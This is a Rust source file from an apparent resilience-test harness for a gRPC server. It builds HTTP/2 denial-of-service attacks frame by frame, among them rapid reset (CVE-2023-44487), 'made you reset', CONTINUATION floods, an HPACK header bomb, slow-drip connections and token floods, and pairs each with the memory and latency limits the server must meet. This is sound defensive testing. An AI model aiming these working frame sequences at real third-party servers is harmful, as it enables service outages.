//! The attacks: what each sends, and the server that it meets. They are those of the tables in
//! `docs/security.md`.

use std::time::Duration;

use bellwether::proto::v1;
use bytes::Bytes;
use prost::Message;

use super::frame::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, INITIAL_WINDOW, PING, RST_STREAM,
    SETTINGS, WINDOW_UPDATE, call, frame, greeting, literal, message, promise, text,
};

/// An attack.
#[derive(Debug, Clone, Copy)]
pub struct Attack {
    /// The name, for `--only`.
    pub name: &'static str,
    /// What it counts.
    pub unit: &'static str,
    /// What it does.
    pub means: Means,
    /// The server that it meets.
    pub target: Target,
    /// What the server must keep to.
    pub bounds: Bounds,
}

/// The server that an attack meets.
#[derive(Debug, Clone, Copy)]
pub struct Target {
    /// Whether the server knows its callers. The attacker has no credentials then.
    pub with_tokens: bool,
    /// Whether the port for gRPC has TLS, and the innocent client is 20 ms away.
    pub with_tls: bool,
    /// What the server has before the attack.
    pub content: Content,
    /// The port that is attacked.
    pub port: Port,
    /// Addresses that the attack comes from.
    pub addresses: usize,
}

/// What a server has.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Content {
    /// Nothing.
    Nothing,
    /// This many applications.
    Applications(usize),
    /// This many applications, each with a message of 4 KiB.
    LongMessages(usize),
    /// A unit with more than 1 MiB of statuses.
    LargeUnit,
}

/// A port of the server.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Port {
    /// That of gRPC and HTTP.
    Grpc,
    /// That of probes and metrics.
    Ops,
}

/// What a server must keep to during an attack.
#[derive(Debug, Clone, Copy)]
pub struct Bounds {
    /// The 99th percentile of the innocent client, in seconds.
    pub p99: f64,
    /// Growth of memory, in bytes.
    pub memory: u64,
    /// Growth of memory that is left 10 s after the attack, in bytes.
    pub memory_after: u64,
}

/// A server without anything, which 16 addresses attack.
pub const PLAIN: Target = Target {
    with_tokens: false,
    with_tls: false,
    content: Content::Nothing,
    port: Port::Grpc,
    addresses: 16,
};

/// Memory is the budget of incomplete messages (256 MiB), ten thousand connections (31 KiB each),
/// and as much again for everything else.
pub const USUAL: Bounds = Bounds { p99: 1.0, memory: 1 << 30, memory_after: 1 << 30 };

/// For answers that no client reads, for large work, and for shares of one address. An eighth of
/// the memory of a small pod may grow, and a third of that may stay with the allocator for a while.
pub const STRICT: Bounds = Bounds { p99: 0.25, memory: 100 << 20, memory_after: 32 << 20 };

/// How an attack is made.
#[derive(Debug, Clone, Copy)]
pub enum Means {
    /// Opens connections, sends the first bytes on each, and holds them. A connection that the
    /// server ends is replaced.
    Hold {
        /// Connections.
        connections: usize,
        /// The first bytes, and the units in them.
        opening: fn() -> (Vec<u8>, u64),
        /// The bytes of each further period.
        drip: fn(u64) -> Vec<u8>,
    },
    /// Sends on few connections as fast as they take it.
    Flood {
        /// Connections.
        connections: usize,
        /// Units on all connections together in a second, at most.
        per_second: Option<u64>,
        /// Writes the next bytes.
        chunk: fn(&mut Turn),
    },
    /// Makes calls by gRPC, one after the other on each connection.
    Calls {
        /// Connections.
        connections: usize,
        /// The method.
        path: &'static str,
        /// The message.
        message: fn() -> Bytes,
    },
    /// Opens connections as fast as it can, sends nothing, and keeps the newest.
    Silent {
        /// Connections that are kept.
        connections: usize,
    },
}

impl Means {
    /// Encodes the large messages, so that the time of an attack is that of sending them.
    pub fn prepare(&self) {
        match self {
            Means::Flood { chunk, .. } => chunk(&mut Turn::begin()),
            Means::Calls { message, .. } => drop(message()),
            Means::Hold { .. } | Means::Silent { .. } => {}
        }
    }
}

/// The time between two drips.
pub const DRIP_EVERY: Duration = Duration::from_millis(250);

/// One connection of a flood.
#[derive(Debug)]
pub struct Turn {
    /// The next bytes.
    pub out: Vec<u8>,
    /// The units in them.
    pub units: u64,
    /// The stream that was opened last.
    stream: u32,
}

impl Turn {
    /// Begins a connection.
    pub fn begin() -> Turn {
        Turn { out: greeting(&[]), units: 0, stream: 0 }
    }

    /// Forgets what is sent.
    pub fn clear(&mut self) {
        self.out.clear();
        self.units = 0;
    }

    /// Returns whether no more streams can be opened.
    pub fn is_used_up(&self) -> bool {
        1 << 30 < self.stream
    }

    /// Returns the number of the next stream.
    pub fn open(&mut self) -> u32 {
        self.stream += if self.stream == 0 { 1 } else { 2 };
        self.stream
    }
}

const REPORT: &str = "/bellwether.v1.ReportService/ReportStatus";
const REPLACE: &str = "/bellwether.v1.ReportService/ReplaceStatuses";
const GET: &str = "/bellwether.v1.ApplicationService/GetApplication";
const WATCH: &str = "/bellwether.v1.ApplicationService/WatchApplications";

/// Frames in one chunk.
const FRAMES: u32 = 512;
/// The largest message of a method with large messages.
const LARGE: u32 = 4 << 20;
/// The application of the innocent client.
pub const APPLICATION: &str = "innocent";

pub(super) const fn hold(
    name: &'static str,
    unit: &'static str,
    connections: usize,
    opening: fn() -> (Vec<u8>, u64),
    drip: fn(u64) -> Vec<u8>,
) -> Attack {
    let means = Means::Hold { connections, opening, drip };
    Attack { name, unit, means, target: PLAIN, bounds: USUAL }
}

pub(super) const fn flood(name: &'static str, unit: &'static str, chunk: fn(&mut Turn)) -> Attack {
    let means = Means::Flood { connections: 8, per_second: None, chunk };
    Attack { name, unit, means, target: PLAIN, bounds: USUAL }
}

/// The attacks of frames, bodies and connections.
pub(super) const ATTACKS: [Attack; 16] = [
    hold("slow-handshake", "connections", 1000, || (Vec::new(), 1), slow_preface),
    hold("slow-body", "streams", 16, slow_bodies, |_| trickle()),
    hold("idle-connections", "connections", 10_000, || (greeting(&[]), 1), |_| Vec::new()),
    hold("half-messages", "streams", 16, half_messages, |_| Vec::new()),
    hold("waiting-reads", "reads", 16, waiting_reads, |_| Vec::new()),
    hold("zero-windows", "watches", 16, blind_watches, |_| Vec::new()),
    flood("rapid-reset", "streams", rapid_reset),
    flood("made-you-reset", "streams", made_you_reset),
    flood("continuations", "frames", continuations),
    flood("settings", "frames", |turn| empty_frames(turn, SETTINGS, &[])),
    flood("pings", "frames", |turn| empty_frames(turn, PING, &[0; 8])),
    flood("tiny-frames", "frames", |turn| data_frames(turn, b"x")),
    flood("empty-frames", "frames", |turn| data_frames(turn, b"")),
    flood("header-bomb", "streams", header_bomb),
    flood("large-headers", "streams", large_headers),
    Attack {
        name: "wrong-tokens",
        unit: "calls",
        means: Means::Flood { connections: 8, per_second: Some(10_000), chunk: wrong_tokens },
        target: Target { with_tokens: true, ..PLAIN },
        bounds: USUAL,
    },
];

/// One byte of the preface at a time: it takes longer than the handshake may.
fn slow_preface(tick: u64) -> Vec<u8> {
    let all = greeting(&[]);
    all.get(tick as usize).map(|byte| vec![*byte]).unwrap_or_default()
}

/// Streams on one connection, each with this header block and these bytes.
pub(super) fn streams(count: u32, block: &[u8], data: &[u8], flags: u8) -> Vec<u8> {
    let mut out = Vec::new();
    for number in 0..count {
        let stream = 2 * number + 1;
        frame(&mut out, HEADERS, END_HEADERS, stream, block);
        for piece in data.chunks(16 << 10) {
            frame(&mut out, DATA, flags, stream, piece);
        }
    }
    out
}

pub(super) fn opened(settings: &[(u16, u32)], count: u32, rest: Vec<u8>) -> (Vec<u8>, u64) {
    ([greeting(settings), rest].concat(), u64::from(count))
}

fn slow_bodies() -> (Vec<u8>, u64) {
    opened(&[], 100, streams(100, &call(REPORT, &[]), &promise(60_000), 0))
}

/// One byte of each body.
fn trickle() -> Vec<u8> {
    let mut out = Vec::new();
    for number in 0..100 {
        frame(&mut out, DATA, 0, 2 * number + 1, b"\n");
    }
    out
}

/// Messages of 4 MiB, each promised, and as much of each sent as the window allows.
fn half_messages() -> (Vec<u8>, u64) {
    let data = [&promise(LARGE)[..], &[0; 60_000]].concat();
    opened(&[], 64, streams(64, &call(REPLACE, &[]), &data, 0))
}

/// Reads of a revision that never comes.
fn waiting_reads() -> (Vec<u8>, u64) {
    let request = v1::GetApplicationRequest {
        application: APPLICATION.into(),
        min_revision: 1 << 40,
        ..Default::default()
    };
    let data = message(&request.encode_to_vec());
    opened(&[], 1000, streams(1000, &call(GET, &[]), &data, END_STREAM))
}

/// Watches whose answers the client never allows to be sent.
fn blind_watches() -> (Vec<u8>, u64) {
    let data = message(&v1::WatchApplicationsRequest::default().encode_to_vec());
    let streams = streams(250, &call(WATCH, &[]), &data, END_STREAM);
    opened(&[(INITIAL_WINDOW, 0)], 250, streams)
}

/// CVE-2023-44487.
fn rapid_reset(turn: &mut Turn) {
    let block = call(REPORT, &[]);
    for _ in 0..FRAMES / 2 {
        let stream = turn.open();
        frame(&mut turn.out, HEADERS, END_HEADERS, stream, &block);
        frame(&mut turn.out, RST_STREAM, 0, stream, &8u32.to_be_bytes());
    }
    turn.units = u64::from(FRAMES / 2);
}

/// CVE-2025-8671: the server resets the stream, because of a mistake of the client.
fn made_you_reset(turn: &mut Turn) {
    let block = call(REPORT, &[]);
    for _ in 0..FRAMES / 2 {
        let stream = turn.open();
        frame(&mut turn.out, HEADERS, END_HEADERS, stream, &block);
        frame(&mut turn.out, WINDOW_UPDATE, 0, stream, &0u32.to_be_bytes());
    }
    turn.units = u64::from(FRAMES / 2);
}

/// Headers without an end.
fn continuations(turn: &mut Turn) {
    if turn.stream == 0 {
        let stream = turn.open();
        frame(&mut turn.out, HEADERS, 0, stream, &call(REPORT, &[]));
    }
    let mut block = Vec::new();
    literal(&mut block, "x-fill", "x");
    for _ in 0..FRAMES {
        frame(&mut turn.out, CONTINUATION, 0, turn.stream, &block);
    }
    turn.units = u64::from(FRAMES);
}

fn empty_frames(turn: &mut Turn, kind: u8, payload: &[u8]) {
    for _ in 0..FRAMES {
        frame(&mut turn.out, kind, 0, 0, payload);
    }
    turn.units = u64::from(FRAMES);
}

/// A message in frames of this payload each.
fn data_frames(turn: &mut Turn, payload: &[u8]) {
    let stream = turn.open();
    frame(&mut turn.out, HEADERS, END_HEADERS, stream, &call(REPORT, &[]));
    frame(&mut turn.out, DATA, 0, stream, &promise(FRAMES));
    for _ in 0..FRAMES {
        frame(&mut turn.out, DATA, 0, stream, payload);
    }
    frame(&mut turn.out, DATA, END_STREAM, stream, b"");
    turn.units = u64::from(FRAMES);
}

/// A field of 4,000 bytes in the dynamic table, named 8,000 times in one header.
fn header_bomb(turn: &mut Turn) {
    let mut block = call(REPORT, &[]);
    // A literal with incremental indexing; 62 is the newest entry of the dynamic table.
    block.push(0x40);
    text(&mut block, "x-bomb");
    text(&mut block, &"x".repeat(4000));
    block.extend(std::iter::repeat_n(0x80 | 62, 8000));
    let stream = turn.open();
    frame(&mut turn.out, HEADERS, END_HEADERS | END_STREAM, stream, &block);
    turn.units = 1;
}

/// Headers of 15 KiB, which fit into a frame.
fn large_headers(turn: &mut Turn) {
    let block = call(REPORT, &[("x-large", &"x".repeat(15 << 10))]);
    let stream = turn.open();
    frame(&mut turn.out, HEADERS, END_HEADERS | END_STREAM, stream, &block);
    turn.units = 1;
}

/// Complete calls with a token that does not exist.
fn wrong_tokens(turn: &mut Turn) {
    let token = format!("Bearer bw_nobody_{}", "0".repeat(43));
    let block = call(REPORT, &[("authorization", &token)]);
    for _ in 0..10 {
        let stream = turn.open();
        frame(&mut turn.out, HEADERS, END_HEADERS, stream, &block);
        frame(&mut turn.out, DATA, END_STREAM, stream, &message(b""));
    }
    turn.units = 10;
}
